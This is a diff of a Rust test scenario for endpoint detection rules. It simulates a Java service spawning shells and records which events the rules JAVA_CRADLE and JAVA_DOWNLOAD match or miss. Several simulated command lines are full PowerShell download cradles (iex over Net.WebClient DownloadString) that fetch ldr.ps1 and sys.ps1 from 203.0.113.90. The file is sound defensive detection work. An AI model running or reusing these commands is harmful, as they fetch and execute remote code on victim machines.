@@ -9,7 +9,7 @@ use super::host::{Account, Act, Host, Process, RegistryValue, Remote, SYSTEM_ACC
 use super::images::{self, Image};
 use super::ordinary::{Booted, ORDINARY, boot};
 use super::record::{MILLISECOND, SECOND, Schema, Ticks, UnknownName};
-use super::scenario::{Expectations, Form, JAVA_CRADLE, Scenario};
+use super::scenario::{Expectations, Form, JAVA_CRADLE, JAVA_DOWNLOAD, Scenario};
 
 static ORDERS: Account = Account {
     domain: "CORP",
@@ -77,8 +77,10 @@ pub fn java_sysrv(day: Ticks, schema: &Schema) -> Result<Scenario, UnknownName> 
 fn ordinary_shells(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expectations) {
     let (act, _) = shell(host, clock(day, 7, 5, 44), java, "cmd.exe /c ver");
     expect.misses(JAVA_CRADLE, act, "a shell without PowerShell: the service asks for the version of Windows");
+    expect.misses(JAVA_DOWNLOAD, act, "a shell without PowerShell: the service asks for the version of Windows");
     let (act, label) = shell(host, clock(day, 9, 20, 3), java, "cmd.exe /c \"C:\\Orders\\bin\\print-label.cmd 4711\"");
     expect.misses(JAVA_CRADLE, act, "a shell without PowerShell: a batch file of the service");
+    expect.misses(JAVA_DOWNLOAD, act, "a shell without PowerShell: a batch file of the service");
     let (_, print) = host.start(
         clock(day, 9, 20, 4),
         &label,
@@ -95,6 +97,7 @@ fn break_in(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expect
     let command_line = "cmd /c powershell iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
     let (act, first) = shell(host, at, java, command_line);
     expect.matches(JAVA_CRADLE, act, "the first request: iex over DownloadString in one command");
+    expect.matches(JAVA_DOWNLOAD, act, "the first request: iex over DownloadString in one command");
     let script = "powershell  iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
     let (_, loader) = host.start(at + 120 * MILLISECOND, &first, &images::POWERSHELL, script);
     run_loader(host, at + SECOND, &loader);
@@ -105,6 +108,7 @@ fn break_in(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expect
         "cmd.exe /c start /b powershell iex((new-object net.webclient).downloadstring('http://203.0.113.90/ldr.ps1'))";
     let (act, again) = shell(host, at, java, command_line);
     expect.matches(JAVA_CRADLE, act, "the same in lower case: has_all does not mind case");
+    expect.matches(JAVA_DOWNLOAD, act, "the same in lower case: has_all does not mind case");
     let (_, second) = host.start(
         at + 95 * MILLISECOND,
         &again,
@@ -118,6 +122,7 @@ fn break_in(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expect
     let command_line = "cmd /c \"powershell iex(New-Object System.Net.WebClient).DownloadString('http://203.0.113.90/sys.ps1'); exit\"";
     let (act, last) = shell(host, at, java, command_line);
     expect.matches(JAVA_CRADLE, act, "a second script, sixteen minutes later");
+    expect.matches(JAVA_DOWNLOAD, act, "a second script, sixteen minutes later");
     let (_, third) = host.start(
         at + 110 * MILLISECOND,
         &last,
@@ -178,12 +183,14 @@ fn look_alikes(
     let cradle = "powershell iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
     let (act, _) = host.start(clock(day, 12, 1, 5), java, &images::POWERSHELL, cradle);
     expect.misses(JAVA_CRADLE, act, "FileName is powershell.exe: Java started it without a shell");
+    expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
     let mut from = |host: &mut Host, minute: i64, image: &'static Image, why: &'static str| {
         let started = clock(day, 12, minute, 0);
         let (_, other) =
             host.start(started, runner, image, &format!("\"{}\" -jar C:\\Orders\\lib\\orders.jar", image.path));
         let (act, _) = shell(host, started + 20 * SECOND, &other, &format!("cmd /c {cradle}"));
         expect.misses(JAVA_CRADLE, act, why);
+        expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
     };
     from(host, 3, &images::LEGACY_JAVA, "InitiatingProcessFileName is Java.exe: == minds case");
     from(host, 5, &images::JAVAW, "InitiatingProcessFileName is javaw.exe");
@@ -204,6 +211,7 @@ fn look_alikes(
     for (minute, command_line, why) in others {
         let (act, _) = shell(host, clock(day, 12, minute, 0), java, command_line);
         expect.misses(JAVA_CRADLE, act, why);
+        expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
     }
 
     let desk = Remote { address: "10.20.9.12", port: 52_114, url: "adm-ws2.corp.example" };
@@ -215,5 +223,6 @@ fn look_alikes(
         "\"cmd.exe\" /k powershell iex((New-Object Net.WebClient).DownloadString('https://intranet.corp.example/setup.ps1'))",
     );
     expect.misses(JAVA_CRADLE, act, "an administrator's own shell: InitiatingProcessFileName is explorer.exe");
+    expect.misses(JAVA_DOWNLOAD, act, "an administrator's own shell: InitiatingProcessFileName is explorer.exe");
     host.logon(clock(day, 12, 20, 0), &booted.services, "Service", &SYSTEM_ACCOUNT, None);
 }
